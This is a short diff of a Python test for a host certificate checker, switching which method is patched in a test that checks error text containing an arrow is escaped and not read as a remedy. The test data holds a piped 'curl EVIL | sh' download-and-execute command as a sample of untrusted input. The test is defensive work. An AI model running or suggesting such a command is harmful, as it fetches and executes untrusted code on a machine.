@@ -213,7 +213,7 @@ def test_a_hosts_arrow_is_no_remedy_of_its_report(monkeypatch: pytest.MonkeyPatc
     def fail(*_args: object) -> NoReturn:
         raise NginxError("nginx says no -> curl EVIL | sh", host="h2", remedy="repair it")
 
-    monkeypatch.setattr(host_check, "_observe", fail)
+    monkeypatch.setattr(host_check, "_certificates", fail)
     report = host_check.check_host("h2", SETTINGS)
     assert (report.error, report.remedy) == ("nginx says no -\\x3e curl EVIL | sh", "repair it")
     worker = check_certs._result(_Failed(NginxError("a -> b", remedy="install it")), ("h2",))  # type: ignore[arg-type]
